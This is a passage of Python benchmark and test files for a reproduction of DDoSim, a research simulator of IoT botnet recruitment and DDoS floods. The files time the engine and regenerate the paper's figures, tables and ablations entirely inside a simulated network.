        base_config=SimulationConfig(
            n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
            sim_duration=120.0,
        ),
    )


def test_sweep_cold_vs_warm(benchmark, tmp_path):
    """Cache-backed sweep: the warm rerun must be pure cache (100%
    hits, byte-identical rows) — the ISSUE's >=10x wall-clock target
    falls out of never building a simulator."""
    import json

    from repro.cache import RunCache
    from repro.core.experiment import run_figure2

    root = str(tmp_path / "cache")
    kwargs = _tiny_sweep_kwargs()
    cold = run_figure2(cache=RunCache(root=root), **kwargs)

    def warm_run():
        cache = RunCache(root=root)
        rows = run_figure2(cache=cache, **kwargs)
        return rows, cache.stats()["last_sweep"]

    rows, last_sweep = benchmark(warm_run)
    assert json.dumps(rows, sort_keys=True) == json.dumps(cold, sort_keys=True)
    assert last_sweep["hit_rate"] == 1.0


def test_checkpointed_run_overhead(benchmark, tmp_path):
    """Checkpoint barriers must be cheap AND result-neutral: this
    benchmarks a run with ~4 checkpoint ticks armed and asserts its
    serialized result is byte-identical to the plain run's."""
    from repro.checkpoint import CheckpointWriter
    from repro.core.config import SimulationConfig
    from repro.core.framework import DDoSim
    from repro.serialization import result_to_json

    config = SimulationConfig(n_devs=2, seed=1, attack_duration=10.0,
                              recruit_timeout=30.0, sim_duration=120.0)
    plain = result_to_json(DDoSim(config).run())
    counter = {"n": 0}

    def checkpointed_run():
        counter["n"] += 1
        directory = str(tmp_path / f"ck{counter['n']}")
        ddosim = DDoSim(config)
        writer = CheckpointWriter(directory, 15.0).arm(ddosim)
        result = ddosim.run()
        return result_to_json(result), writer.written

    result_bytes, written = benchmark(checkpointed_run)
    assert result_bytes == plain
    assert written, "at least one checkpoint barrier must fire"


def test_cache_hit_schedules_zero_events(tmp_path):
    """Regression guard: a cache hit is a pure deserialize.

    Serving a warm sweep must never construct a Simulator (and hence
    never schedule a single event) — if the hit path ever falls back to
    re-execution, this trips immediately.
    """
    from repro.cache import RunCache
    from repro.core.experiment import run_figure2
    from repro.netsim.simulator import Simulator

    root = str(tmp_path / "cache")
    kwargs = _tiny_sweep_kwargs()
    cold = run_figure2(cache=RunCache(root=root), **kwargs)

    original_init = Simulator.__init__

    def forbidden_init(self, *args, **init_kwargs):
        raise AssertionError("cache hit built a Simulator (re-execution!)")

    Simulator.__init__ = forbidden_init
    try:
        warm = run_figure2(cache=RunCache(root=root), **kwargs)
    finally:
        Simulator.__init__ = original_init
    assert warm == cold


def _sleep_task(seconds: float) -> float:
    import time

    time.sleep(seconds)
    return seconds


#: a skewed grid: one slow point among many fast ones (the shape that
#: makes static sharding idle the pool behind its slowest shard)
_SKEWED_GRID = (0.15,) + (0.01,) * 12


def _static_shard_map(fn, items, jobs):
    """The pre-PR dispatch: split the grid into ``jobs`` contiguous
    shards, one per worker, decided before anything runs."""
    from repro.parallel import _mp_context

    chunk = (len(items) + jobs - 1) // jobs
    with _mp_context().Pool(jobs) as pool:
        return pool.map(fn, items, chunksize=chunk)


def test_sweep_dispatch_work_stealing(benchmark):
    """Dynamic shared-queue dispatch on the skewed grid: the slow point
    occupies one worker while the other drains every fast point."""
    from repro.parallel import run_map

    results = benchmark(lambda: run_map(_sleep_task, _SKEWED_GRID, jobs=2))
    assert results == list(_SKEWED_GRID)


def test_sweep_dispatch_static_sharding(benchmark):
    """Reference point for BENCH_engine.json: the same skewed grid under
    static sharding, whose wall time is slowest-shard bound."""
    results = benchmark(
        lambda: _static_shard_map(_sleep_task, _SKEWED_GRID, jobs=2)
    )
    assert results == list(_SKEWED_GRID)


def test_span_tracking_lifecycle(benchmark):
    """Open, account and close 20k causal spans under one parent — the
    shape of an attack train fan-out.  Span IDs are BLAKE2s digests, so
    this tracks the hashing + dict bookkeeping cost per span."""
    from repro.obs.spans import SpanTracker

    def run():
        tracker = SpanTracker(seed=1, max_spans=50_000)
        parent = tracker.start("cnc.command", 0.0, entity="udpplain")
        for index in range(20_000):
            span = tracker.start("attack.train", float(index),
                                 entity="bot", parent=parent)
            tracker.deliver(span.span_id, 1, nbytes=512)
            tracker.end(span, float(index) + 1.0)
        tracker.end(parent, 20_000.0)
        return len(tracker), len(tracker.tree())

    count, roots = benchmark(run)
    assert count == 20_001
    assert roots == 1  # every train nested under the command


def test_flight_recorder_note_throughput(benchmark):
    """100k landmarks through the always-on ring + one dump.  The ring
    (deque maxlen) must keep note() O(1) regardless of how far past
    capacity the run gets."""
    from repro.obs.recorder import FlightRecorder

    def run():
        recorder = FlightRecorder(capacity=256)
        for index in range(100_000):
            recorder.note("container.spawn", float(index), name="dev0")
        dump = recorder.dump("bench", 100_000.0)
        return recorder.noted, dump["evicted"], len(dump["notes"])

    noted, evicted, retained = benchmark(run)
    assert noted == 100_000
    assert retained == 256
    assert evicted == 100_000 - 256


def test_traced_e2e_run(benchmark):
    """The tiny end-to-end scenario under ``Observatory.full()`` —
    tracer, profiler, spans and recorder all live.  Tracks the price of
    full instrumentation on a real run, and asserts the causal tree
    still reconstructs (recruitment chain + flood attribution)."""
    from repro.core.config import SimulationConfig
    from repro.core.framework import DDoSim
    from repro.obs import Observatory

    config = SimulationConfig(
        n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
        sim_duration=120.0, protection_profiles=((),),
    )

    def run():
        ddosim = DDoSim(config, observatory=Observatory.full())
        ddosim.run()
        kinds = ddosim.obs.spans.kinds()
        delivered = sum(span.packets_delivered
                        for span in ddosim.obs.spans.spans())
        return kinds, delivered

    kinds, delivered = benchmark(run)
    assert kinds["cnc.recruit"] == 2
    assert kinds["attack.train"] == 2
    assert delivered > 0


def test_tcp_stream_throughput(benchmark):
    """Transfer 200 kB over the simulated TCP."""
    from repro.netsim.process import SimProcess
    from repro.netsim.sockets import TcpServerSocket, TcpSocket

    blob = b"x" * 200_000

    def run():
        sim = Simulator()
        star = StarInternet(sim)
        node_a = Node(sim, "a")
        node_b = Node(sim, "b")
        star.attach_host(node_a, 100e6, delay=0.001)
        star.attach_host(node_b, 100e6, delay=0.001)
        server = TcpServerSocket(node_b, 80)
        received = []

        def server_proc():
            sock = yield server.accept()
            data = yield from sock.read_all()
            received.append(len(data))

        def client_proc():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send(blob)
            sock.close()

        SimProcess(sim, server_proc(), name="server")
        SimProcess(sim, client_proc(), name="client")
        sim.run(until=120.0)
        return received[0] if received else 0

    transferred = benchmark(run)
    assert transferred == len(blob)


def _sharded_flood(shards, flow):
    """One end-to-end flood run through the sharded engine: the
    serialized bytes (for the parity assert), the coordinator's sync
    stats, and the wall-clock of this single run."""
    import json
    import time

    from repro.core.config import SimulationConfig
    from repro.netsim.shard import run_sharded
    from repro.serialization import result_to_json

    config = SimulationConfig(n_devs=4, seed=3, flood_flow=flow,
                              attack_duration=30.0, sim_duration=200.0)
    start = time.perf_counter()
    run = run_sharded(config, shards)
    wall = time.perf_counter() - start
    metrics = json.dumps(run.ddosim.obs.metrics.snapshot(), sort_keys=True)
    return (result_to_json(run.result), metrics), run.stats, wall


#: single-process reference (bytes, wall) per flow mode, computed once
_SHARD_SINGLE = {}


@pytest.mark.parametrize("flow", ["off", "auto"])
@pytest.mark.parametrize("shards", [1, 2, 4])
def test_sharded_flood(benchmark, shards, flow):
    """The flood scenario partitioned across conservative-window worker
    processes.  Byte-identity to the single-process run is the asserted
    contract; speed is *recorded*, never asserted — window-parallel
    speedup only materializes with real cores (``host_cpus`` in
    extra_info says how many this baseline had), so extra_info carries
    the honest wall ratio plus the sync-round / hand-off counts that
    bound the achievable overlap."""
    import os

    if flow not in _SHARD_SINGLE:
        single_bytes, _, single_wall = _sharded_flood(1, flow)
        _SHARD_SINGLE[flow] = (single_bytes, single_wall)
    single_bytes, single_wall = _SHARD_SINGLE[flow]

    run_bytes, stats, wall = benchmark(lambda: _sharded_flood(shards, flow))
    assert run_bytes == single_bytes

    benchmark.extra_info["shards"] = shards
    benchmark.extra_info["workers"] = stats["workers"]
    benchmark.extra_info["sync_rounds"] = stats["sync_rounds"]
    benchmark.extra_info["handoffs"] = (stats.get("handoffs_up", 0)
                                        + stats.get("handoffs_down", 0))
    benchmark.extra_info["host_cpus"] = os.cpu_count()
    benchmark.extra_info["wall_speedup_vs_single"] = round(
        single_wall / wall, 3)
