"""Microbenchmarks of the simulation engine itself.

These use pytest-benchmark's actual timing (multiple rounds) to track
the hot paths that dominate experiment wall time: the event scheduler,
the point-to-point flood datapath, and TCP byte-stream throughput.
"""

from repro.netsim.node import Node
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet


def test_scheduler_throughput(benchmark):
    """Schedule+run 50k no-op events."""

    def run():
        sim = Simulator()
        for index in range(50_000):
            sim.schedule(index * 1e-6, _noop)
        sim.run()
        return sim.events_executed

    executed = benchmark(run)
    assert executed == 50_000


def _noop():
    pass


def test_flood_datapath(benchmark):
    """Push 5k UDP packets through the star (device->router->sink)."""

    def run():
        sim = Simulator()
        star = StarInternet(sim)
        sender = Node(sim, "sender")
        receiver = Node(sim, "receiver")
        # Deep queues: this measures datapath cost, not drop behaviour.
        star.attach_host(sender, 100e6, delay=0.001, queue_packets=6_000)
        star.attach_host(receiver, 100e6, delay=0.001, queue_packets=6_000)
        sink = PacketSink(receiver)
        sink.start()
        destination = star.address_of(receiver)
        udp = sender.udp
        for _ in range(5_000):
            udp.send_datagram(None, destination, 7777, src_port=9, payload_size=512)
        sim.run()
        return sink.total_packets

    received = benchmark(run)
    assert received == 5_000


def test_tcp_stream_throughput(benchmark):
    """Transfer 200 kB over the simulated TCP."""
    from repro.netsim.process import SimProcess
    from repro.netsim.sockets import TcpServerSocket, TcpSocket

    blob = b"x" * 200_000

    def run():
        sim = Simulator()
        star = StarInternet(sim)
        node_a = Node(sim, "a")
        node_b = Node(sim, "b")
        star.attach_host(node_a, 100e6, delay=0.001)
        star.attach_host(node_b, 100e6, delay=0.001)
        server = TcpServerSocket(node_b, 80)
        received = []

        def server_proc():
            sock = yield server.accept()
            data = yield from sock.read_all()
            received.append(len(data))

        def client_proc():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send(blob)
            sock.close()

        SimProcess(sim, server_proc(), name="server")
        SimProcess(sim, client_proc(), name="client")
        sim.run(until=120.0)
        return received[0] if received else 0

    transferred = benchmark(run)
    assert transferred == len(blob)
