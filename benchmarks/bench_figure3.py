"""Figure 3 — average received data rate vs attack duration.

Paper: durations 150/200/300 s at 50/100/150/200 Devs, no churn.
Expected shape: for every fleet size, longer attacks yield a higher
average received data rate (ramp-up transients amortize and the server
stays saturated longer), and larger fleets dominate smaller ones at every
duration.

The quick grid uses 50/100 Devs and a 1400 B flood payload (2.7x fewer
packets to simulate); ``bench_ablations`` shows measured rate is
insensitive to payload size in this regime.  ``REPRO_FULL=1`` runs the
paper's exact grid.
"""

from repro.core.config import SimulationConfig
from repro.core.experiment import (
    FIGURE3_DEVS_FULL,
    FIGURE3_DEVS_QUICK,
    FIGURE3_DURATIONS,
    run_figure3,
)
from repro.core.results import format_table

from benchmarks.conftest import banner


def test_figure3(benchmark, full, jobs):
    devs_grid = FIGURE3_DEVS_FULL if full else FIGURE3_DEVS_QUICK
    base = SimulationConfig(n_devs=1, attack_payload_size=1400)

    rows = benchmark.pedantic(
        run_figure3,
        kwargs={
            "devs_grid": devs_grid,
            "durations": FIGURE3_DURATIONS,
            "seed": 1,
            "base_config": base,
            "jobs": jobs,
        },
        rounds=1,
        iterations=1,
    )

    banner("Figure 3: avg received data rate vs attack duration")
    print(format_table(rows))

    by_devs = {}
    for row in rows:
        by_devs.setdefault(row["n_devs"], []).append(
            (row["attack_duration_s"], row["avg_received_kbps"])
        )

    for n_devs, series in by_devs.items():
        series.sort()
        rates = [rate for _duration, rate in series]
        assert rates == sorted(rates), (
            f"received rate must increase with duration at {n_devs} Devs: {rates}"
        )

    durations = sorted({row["attack_duration_s"] for row in rows})
    sizes = sorted(by_devs)
    for duration in durations:
        per_size = [dict(by_devs[n])[duration] for n in sizes]
        assert per_size == sorted(per_size), (
            f"rate must increase with Devs at {duration}s: {per_size}"
        )
    print("\nshape checks passed: rate increases with duration and with Devs")
