"""Shared helpers for the benchmark harness.

Each ``bench_*.py`` regenerates one of the paper's tables or figures.
Grids default to reduced-but-representative sizes so the whole harness
runs in minutes; set ``REPRO_FULL=1`` to use the paper's full grids.

Output: every benchmark prints the regenerated rows (the same series the
paper plots/tabulates) plus the expected *shape* assertions it checked.
"""

from __future__ import annotations

import os

import pytest


def full_grids() -> bool:
    return os.environ.get("REPRO_FULL", "0") not in ("", "0", "false")


@pytest.fixture(scope="session")
def full() -> bool:
    return full_grids()


def banner(title: str) -> None:
    print()
    print("=" * 72)
    print(title)
    print("=" * 72)
