"""Shared helpers for the benchmark harness.

Each ``bench_*.py`` regenerates one of the paper's tables or figures.
Grids default to reduced-but-representative sizes so the whole harness
runs in minutes; set ``REPRO_FULL=1`` to use the paper's full grids.

Output: every benchmark prints the regenerated rows (the same series the
paper plots/tabulates) plus the expected *shape* assertions it checked.
"""

from __future__ import annotations

import os

import pytest


def full_grids() -> bool:
    return os.environ.get("REPRO_FULL", "0") not in ("", "0", "false")


def sweep_jobs() -> int:
    """Worker processes for sweep benchmarks (``REPRO_JOBS=N``; 0 or
    unset keeps the exact serial path)."""
    try:
        return max(1, int(os.environ.get("REPRO_JOBS", "1")))
    except ValueError:
        return 1


@pytest.fixture(scope="session")
def full() -> bool:
    return full_grids()


@pytest.fixture(scope="session")
def jobs() -> int:
    return sweep_jobs()


def banner(title: str) -> None:
    print()
    print("=" * 72)
    print(title)
    print("=" * 72)
