"""Emulation-mode ablation — containers vs Firmadyne/QEMU firmware.

Paper §II-B: full-system emulation "on a large scale requires
significant processing powers, which limits DDoSim's scalability",
which is why Devs are containers; §III-B notes the Firmadyne/QEMU mode
remains available "with more powerful hardware".

Expected shape: identical recruitment outcome (only the network-facing
program's vulnerability matters), but roughly an order of magnitude more
memory per device and visibly later first recruitment (boot sequence).
"""

from repro.core.experiment import run_emulation_comparison
from repro.core.results import format_table

from benchmarks.conftest import banner


def test_emulation_modes(benchmark, full):
    n_devs = 30 if full else 12

    rows = benchmark.pedantic(
        run_emulation_comparison,
        kwargs={"n_devs": n_devs, "seed": 1},
        rounds=1,
        iterations=1,
    )

    banner("Emulation ablation: containers vs full firmware (QEMU)")
    print(format_table(rows))

    by_mode = {row["emulation"]: row for row in rows}
    container = by_mode["container"]
    firmware = by_mode["firmware"]

    # Same security outcome...
    assert container["infection_rate"] == firmware["infection_rate"] == 1.0
    # ...at a very different price.
    memory_ratio = firmware["fleet_memory_mb"] / container["fleet_memory_mb"]
    assert memory_ratio > 5.0, f"expected ~10x footprint, got {memory_ratio:.1f}x"
    assert firmware["first_bot_s"] > container["first_bot_s"]
    print(
        f"\nshape checks passed: identical infection, {memory_ratio:.1f}x "
        f"memory for firmware mode, boot delays recruitment "
        f"({firmware['first_bot_s']}s vs {container['first_bot_s']}s)"
    )
