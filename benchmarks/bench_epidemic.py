"""Use case V-A2 — epidemic models of botnet spread vs DDoSim.

The paper proposes DDoSim as a check on mathematical spread models.
Here: one seeded infection, exploit-armed Mirai scanning, the C&C
registration log as the measured infection curve I(t), and an SI
(logistic) fit.  Expected outcome: full spread and a close SI fit
(high R^2) — worm spread in a homogeneous pool *is* an SI process.
"""

import numpy as np

from repro.analysis.epidemic import fit_si_model, run_propagation_experiment, si_curve

from benchmarks.conftest import banner


def test_epidemic(benchmark, full):
    n_devs = 50 if full else 25

    result = benchmark.pedantic(
        run_propagation_experiment,
        kwargs={
            "n_devs": n_devs,
            "seed": 4,
            "duration": 400.0,
            "probes_per_second": 2.0,
            "pool_factor": 4.0,
        },
        rounds=1,
        iterations=1,
    )

    times, infected = result.as_arrays()
    fit = fit_si_model(times, infected, population=n_devs, i0=1)
    predicted = si_curve(times, fit.beta, n_devs, i0=1)

    banner("Use case V-A2: botnet spread vs SI epidemic model")
    print(f"devices: {n_devs}, scanned pool: {result.pool_size} addresses")
    print(f"final infected: {result.final_infected}/{n_devs}")
    print(f"SI fit: beta={fit.beta:.4f}/s  RMSE={fit.rmse:.2f}  R^2={fit.r_squared:.3f}")
    sample = slice(0, len(times), max(1, len(times) // 12))
    print("t(s)      measured  SI-model")
    for t, measured, model in zip(times[sample], infected[sample], predicted[sample]):
        print(f"{t:7.0f}  {measured:8d}  {model:8.1f}")

    assert result.final_infected == n_devs, "worm must reach the whole fleet"
    assert fit.r_squared > 0.9, f"SI fit too poor: R^2={fit.r_squared}"
    assert np.all(np.diff(infected) >= 0)
    print("\nshape checks passed: full spread, logistic growth, close SI fit")
