"""Ablations over DESIGN.md's called-out design choices.

1. **Flood payload size** — measured received rate should be insensitive
   to the packet granularity in the unsaturated regime (justifies the
   1400 B speed-up used by bench_figure3).
2. **TServer bottleneck bandwidth** — the congestion locus: a smaller
   bottleneck caps the received rate and produces the Figure 2 plateau.
3. **Churn coefficients φ** — scaling Fan et al.'s coefficients up
   increases departures and further reduces attack severity.
4. **Protections without the leak-stage** — if the attacker fires
   slide-0 payloads blind (no probe/leak), ASLR Devs crash instead of
   joining: infection collapses to roughly the non-ASLR fraction.
"""

from repro.core.config import SimulationConfig
from repro.core.framework import DDoSim
from repro.core.results import format_table

from benchmarks.conftest import banner


def _run(**overrides):
    defaults = dict(
        n_devs=30, seed=7, attack_duration=40.0,
        recruit_timeout=40.0, sim_duration=300.0,
    )
    defaults.update(overrides)
    return DDoSim(SimulationConfig(**defaults)).run()


def _no_leak_run():
    """Disable the diagnostic leak: attacker must guess slide 0."""
    config = SimulationConfig(
        n_devs=30, seed=7, attack_duration=10.0,
        recruit_timeout=40.0, sim_duration=200.0,
    )
    ddosim = DDoSim(config)

    # Ablate the leak primitive: diagnostics parse to nothing, so the
    # attacker's slide table stays empty and stage-2 falls back to 0...
    # except stage-2 never fires for connman (it waits for a leak), so
    # emulate a blind attacker: every query/probe gets the slide-0 exploit.
    attacker = ddosim.attacker
    attacker.dns_slides = _ZeroSlideDict()
    original = attacker._dhcp_leak_from_reply
    attacker._dhcp_leak_from_reply = lambda payload: (
        0 if original(payload) is not None else None
    )
    return ddosim.run()


class _ZeroSlideDict(dict):
    """A slide table that always answers 0 (blind exploitation)."""

    def get(self, key, default=None):
        return 0


def _ablation_rows():
    rows = []

    # 1. payload size
    for payload in (256, 512, 1400):
        result = _run(attack_payload_size=payload)
        rows.append({
            "ablation": "payload_size",
            "value": payload,
            "avg_received_kbps": round(result.attack.avg_received_kbps, 1),
            "infection_rate": result.recruitment.infection_rate,
        })

    # 2. bottleneck bandwidth
    for rate in (5e6, 30e6):
        result = _run(tserver_rate_bps=rate)
        rows.append({
            "ablation": "tserver_rate",
            "value": f"{rate/1e6:.0f}Mbps",
            "avg_received_kbps": round(result.attack.avg_received_kbps, 1),
            "infection_rate": result.recruitment.infection_rate,
        })

    # 3. churn coefficients
    for scale, phi in (("paper", (0.16, 0.08, 0.04)), ("x4", (0.64, 0.32, 0.16))):
        result = _run(churn="dynamic", churn_phi=phi)
        rows.append({
            "ablation": "churn_phi",
            "value": scale,
            "avg_received_kbps": round(result.attack.avg_received_kbps, 1),
            "infection_rate": result.recruitment.infection_rate,
        })

    # 4. blind (leak-less) exploitation
    result = _no_leak_run()
    rows.append({
        "ablation": "no_leak_blind_exploit",
        "value": "-",
        "avg_received_kbps": round(result.attack.avg_received_kbps, 1),
        "infection_rate": round(result.recruitment.infection_rate, 3),
    })
    return rows


def test_ablations(benchmark):
    rows = benchmark.pedantic(_ablation_rows, rounds=1, iterations=1)

    banner("Ablations over design choices")
    print(format_table(rows))

    by_key = {}
    for row in rows:
        by_key.setdefault(row["ablation"], []).append(row)

    # 1. payload size barely matters (unsaturated regime)
    payload_rates = [row["avg_received_kbps"] for row in by_key["payload_size"]]
    assert max(payload_rates) / min(payload_rates) < 1.1

    # 2. the bottleneck caps the rate
    bottleneck = {row["value"]: row["avg_received_kbps"] for row in by_key["tserver_rate"]}
    assert bottleneck["5Mbps"] < bottleneck["30Mbps"]
    assert bottleneck["5Mbps"] < 5_500  # clipped near the 5 Mbps ceiling

    # 3. heavier churn -> weaker attack
    churn = {row["value"]: row["avg_received_kbps"] for row in by_key["churn_phi"]}
    assert churn["x4"] < churn["paper"]

    # 4. without the leak stage, ASLR devices resist (partial infection)
    blind = by_key["no_leak_blind_exploit"][0]
    assert 0.2 < blind["infection_rate"] < 0.9
    print("\nablation shape checks passed")


def test_topology_abstraction(benchmark):
    """§III-D ablation: the paper's single-link Internet abstraction vs
    the explicit host→home-router→ISP→core path.  Expected: closely
    matching recruitment and attack magnitude."""
    from repro.core.framework import DDoSim
    from repro.netsim.tiered import TieredInternet

    def run_pair():
        config = SimulationConfig(
            n_devs=20, seed=7, attack_duration=30.0,
            recruit_timeout=40.0, sim_duration=300.0,
        )
        star = DDoSim(config).run()
        tiered = DDoSim(
            config,
            network_factory=lambda sim, c: TieredInternet(
                sim, default_queue_packets=c.queue_packets
            ),
        ).run()
        return star, tiered

    star, tiered = benchmark.pedantic(run_pair, rounds=1, iterations=1)
    banner("Ablation: star (single-link abstraction) vs tiered Internet")
    print(f"star   : infection={star.recruitment.infection_rate:.2f} "
          f"rate={star.attack.avg_received_kbps:.1f} kbps")
    print(f"tiered : infection={tiered.recruitment.infection_rate:.2f} "
          f"rate={tiered.attack.avg_received_kbps:.1f} kbps")
    divergence = abs(
        star.attack.avg_received_kbps - tiered.attack.avg_received_kbps
    ) / star.attack.avg_received_kbps
    assert star.recruitment.infection_rate == tiered.recruitment.infection_rate == 1.0
    assert divergence < 0.1
    print(f"\nshape check passed: divergence {divergence:.1%} — the "
          "single-link abstraction holds")
