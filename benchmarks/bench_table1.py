"""Table I — hardware resources consumed by DDoSim per run.

Paper (16 GB laptop, 100 s attacks):

    Devs  Pre-attack Mem  Attack Mem  Attack Time
    20    0.38 GB         0.39 GB     2:03
    40    0.52 GB         1.15 GB     2:43
    70    0.73 GB         1.47 GB     3:22
    100   0.94 GB         1.93 GB     3:48
    130   1.32 GB         3.11 GB     5:14

Our resource model (see repro.core.resources) is driven by the emulated
container census and the simulation's actual flood volume; expected
shape: all three columns grow with Devs, Attack Mem > Pre-attack Mem with
a widening gap, and Attack Time always exceeds the 100 s simulated
duration.
"""

from repro.core.experiment import TABLE1_DEVS, run_table1
from repro.core.results import format_table

from benchmarks.conftest import banner

PAPER_TABLE1 = {
    20: (0.38, 0.39, 123),
    40: (0.52, 1.15, 163),
    70: (0.73, 1.47, 202),
    100: (0.94, 1.93, 228),
    130: (1.32, 3.11, 314),
}


def _mmss_to_seconds(text: str) -> int:
    minutes, seconds = text.split(":")
    return int(minutes) * 60 + int(seconds)


def test_table1(benchmark, jobs):
    rows = benchmark.pedantic(
        run_table1, kwargs={"devs_grid": TABLE1_DEVS, "seed": 1, "jobs": jobs},
        rounds=1, iterations=1,
    )

    banner("Table I: hardware resources consumed by DDoSim")
    merged = []
    for row in rows:
        paper_pre, paper_attack, paper_time = PAPER_TABLE1[row["n_devs"]]
        merged.append(
            {
                **row,
                "paper_pre_gb": paper_pre,
                "paper_attack_gb": paper_attack,
                "paper_time_s": paper_time,
            }
        )
    print(format_table(merged))

    pre = [row["pre_attack_mem_gb"] for row in rows]
    attack = [row["attack_mem_gb"] for row in rows]
    times = [_mmss_to_seconds(row["attack_time"]) for row in rows]

    assert pre == sorted(pre), "pre-attack memory must grow with Devs"
    assert attack == sorted(attack), "attack memory must grow with Devs"
    assert times == sorted(times), "attack time must grow with Devs"
    assert all(a > p for a, p in zip(attack, pre)), "attack mem exceeds pre-attack"
    gaps = [a - p for a, p in zip(attack, pre)]
    assert gaps == sorted(gaps), "attack-vs-pre gap widens with Devs"
    assert all(t > 100 for t in times), "attack time exceeds the simulated 100 s"

    # Rough magnitude agreement with the published table (model-driven,
    # so generous tolerance).
    for row in rows:
        paper_pre, paper_attack, paper_time = PAPER_TABLE1[row["n_devs"]]
        assert abs(row["pre_attack_mem_gb"] - paper_pre) / paper_pre < 0.6
        assert abs(_mmss_to_seconds(row["attack_time"]) - paper_time) / paper_time < 0.6
    print("\nshape checks passed: monotone columns, widening gap, time > 100 s")
