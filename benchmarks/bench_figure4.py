"""Figure 4 — real-world (hardware) vs DDoSim received-rate curves.

Paper: 1-19 Raspberry Pis on a Netgear router's WiFi vs DDoSim at the
same settings; validation criterion is that both curves are similar.

Here the "hardware" side is the independent CSMA/CA WiFi testbed model
(repro.hardware): different congestion physics, same components.
Expected shape: both curves increase with Devs and track each other
closely (small relative divergence at every point).
"""

from repro.core.experiment import (
    FIGURE4_DEVS_FULL,
    FIGURE4_DEVS_QUICK,
    run_figure4,
)
from repro.core.results import format_table

from benchmarks.conftest import banner


def test_figure4(benchmark, full, jobs):
    devs_grid = FIGURE4_DEVS_FULL if full else FIGURE4_DEVS_QUICK

    rows = benchmark.pedantic(
        run_figure4,
        kwargs={"devs_grid": devs_grid, "seed": 1, "jobs": jobs},
        rounds=1,
        iterations=1,
    )

    banner("Figure 4: hardware-testbed model vs DDoSim")
    print(format_table(rows))

    hardware = [row["hardware_kbps"] for row in rows]
    simulated = [row["ddosim_kbps"] for row in rows]
    divergences = [row["relative_divergence"] for row in rows]

    assert hardware == sorted(hardware), "hardware curve must grow with Devs"
    assert simulated == sorted(simulated), "DDoSim curve must grow with Devs"
    assert max(divergences) < 0.25, (
        f"models diverge too much: max divergence {max(divergences)}"
    )
    mean_divergence = sum(divergences) / len(divergences)
    assert mean_divergence < 0.15
    print(
        f"\nshape checks passed: both curves monotone; mean divergence "
        f"{mean_divergence:.1%}, max {max(divergences):.1%}"
    )
