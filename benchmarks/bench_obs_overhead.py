"""Overhead of the observability layer on the scheduler hot path.

The contract (DESIGN.md "Observability") is that an *uninstrumented* run
pays nearly nothing: a bare :class:`Simulator` defaults to
``NULL_OBSERVATORY`` and executes the seed tight loop, and the default
``Observatory()`` (real registry, null tracer, no profiler) still takes
that same loop.  Only ``Observatory.full()`` switches to the
instrumented loop, whose cost we report but do not bound.

Timings use min-of-N: the minimum over several repeats is the least
noisy estimator for "how fast can this loop go", which is what an
overhead ratio needs.
"""

import time

from repro.netsim.simulator import Simulator
from repro.obs import Observatory

N_EVENTS = 50_000
REPEATS = 7
MAX_OFF_OVERHEAD = 0.05  # 5%


def _noop():
    pass


def _run_scheduler(observatory=None) -> float:
    """Wall seconds to schedule+dispatch N_EVENTS no-op events."""
    sim = Simulator()
    if observatory is not None:
        sim.attach_observatory(observatory)
    for index in range(N_EVENTS):
        sim.schedule(index * 1e-6, _noop)
    start = time.perf_counter()
    sim.run()
    elapsed = time.perf_counter() - start
    assert sim.events_executed == N_EVENTS
    return elapsed


def _best(make_observatory) -> float:
    _run_scheduler(make_observatory() if make_observatory else None)  # warm-up
    return min(
        _run_scheduler(make_observatory() if make_observatory else None)
        for _ in range(REPEATS)
    )


def test_off_mode_overhead_under_5_percent():
    """Default Observatory (metrics-only) must ride the seed loop."""
    bare = _best(None)
    metrics_only = _best(Observatory)
    overhead = metrics_only / bare - 1.0
    print(
        f"\nbare: {N_EVENTS / bare:,.0f} ev/s | "
        f"metrics-only: {N_EVENTS / metrics_only:,.0f} ev/s | "
        f"overhead: {overhead:+.2%}"
    )
    assert overhead < MAX_OFF_OVERHEAD


def test_report_full_instrumentation_cost():
    """Informational: events/sec with tracer + profiler fully on."""
    bare = _best(None)
    full = _best(Observatory.full)
    print(
        f"\nbare: {N_EVENTS / bare:,.0f} ev/s | "
        f"full: {N_EVENTS / full:,.0f} ev/s | "
        f"slowdown: {full / bare:.2f}x"
    )
    # Sanity only — full instrumentation is allowed to cost, but a >20x
    # slowdown would mean the instrumented loop regressed badly.
    assert full / bare < 20.0


def test_tracing_off_guard_is_one_attribute_check():
    """The spans-off hot path must be a single truthiness test: with the
    default Observatory every call site sees ``NULL_SPANS.enabled`` ==
    False and never builds a span.  Timed head-to-head against the
    enabled path so the gap is visible in CI logs."""
    from repro.obs.spans import NULL_SPANS, SpanTracker

    n = 200_000

    def loop(spans) -> float:
        start = time.perf_counter()
        for index in range(n):
            if spans.enabled:
                span = spans.start("exploit", float(index), entity="dev0")
                spans.end(span, float(index) + 1.0)
        return time.perf_counter() - start

    off = min(loop(NULL_SPANS) for _ in range(REPEATS))
    on = min(loop(SpanTracker(seed=1, max_spans=n)) for _ in range(REPEATS))
    print(
        f"\nspans off: {n / off:,.0f} checks/s | "
        f"spans on: {n / on:,.0f} start+end/s | "
        f"ratio: {on / off:.1f}x"
    )
    # The off branch does no allocation or hashing; anything within two
    # orders of magnitude of a bare loop is fine, but it must be far
    # cheaper than actually opening spans.
    assert off < on


def test_flight_recorder_note_cost_is_bounded():
    """The always-on recorder only sees low-rate landmarks, but a note
    must still be cheap (dict build + deque append) — its ring bounds
    memory, this bounds time.  Reported as notes/sec; the assertion only
    guards against an accidental O(capacity) note path."""
    from repro.obs.recorder import FlightRecorder

    n = 200_000
    small, large = FlightRecorder(capacity=64), FlightRecorder(capacity=4096)

    def loop(recorder) -> float:
        start = time.perf_counter()
        for index in range(n):
            recorder.note("container.spawn", float(index), name="dev0")
        return time.perf_counter() - start

    t_small = min(loop(small) for _ in range(REPEATS))
    t_large = min(loop(large) for _ in range(REPEATS))
    print(
        f"\nnote() cap=64: {n / t_small:,.0f}/s | "
        f"cap=4096: {n / t_large:,.0f}/s"
    )
    assert small.noted == n * REPEATS  # every call counted, ring or not
    # Cost must not scale with ring capacity (deque maxlen eviction).
    assert t_large < t_small * 3.0
