"""Overhead of the observability layer on the scheduler hot path.

The contract (DESIGN.md "Observability") is that an *uninstrumented* run
pays nearly nothing: a bare :class:`Simulator` defaults to
